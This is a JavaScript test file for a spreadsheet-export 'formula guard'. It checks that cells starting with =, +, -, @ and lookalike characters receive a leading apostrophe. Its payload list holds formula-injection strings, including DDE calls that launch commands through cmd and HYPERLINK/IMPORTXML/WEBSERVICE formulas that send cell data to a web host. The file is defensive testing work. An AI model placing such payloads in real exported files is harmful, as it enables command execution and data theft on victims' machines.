import { expect } from '@open-wc/testing';
import { guardFormula } from '../../../src/export/files/formula-guard.js';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫', '−'];
const SKIPPED = ['', ' ', '  ', '\u00a0', '\u3000', '\ufeff', '\u200b', '"', "'", ' "', '“', '‘', '\u202e'];

const PAYLOADS = [
  '=1+1',
  '=SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+1-1',
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org?x="&A1,"see")',
  '=IMPORTXML(CONCAT("https://example.org?v=",A1),"//a")',
  '=WEBSERVICE("https://example.org")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  '＝1+1',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '%0A-1+1=',
  '-5',
  '+33 1 23 45',
  '@ada',
];

describe('the formula guard', () => {
  for (const start of STARTS) {
    it(`puts an apostrophe before a text that starts with ${JSON.stringify(start)}, also after what spreadsheets skip`, () => {
      for (const before of SKIPPED) expect(guardFormula(`${before}${start}x`)).to.equal(`'${before}${start}x`);
    });
  }

  it('guards every known payload once', () => {
    for (const payload of PAYLOADS.filter((text) => !text.startsWith('%'))) expect(guardFormula(payload), payload).to.equal(`'${payload}`);
  });

  it('leaves other texts as they are', () => {
    for (const text of ['', 'a', 'a=1', 'x-y', '1', '5 - 3', '“quoted”', '数学', 'التقرير', 'é', '#VALUE', '(=1)', '*', '%0A-1+1='])
      expect(guardFormula(text)).to.equal(text);
  });
});
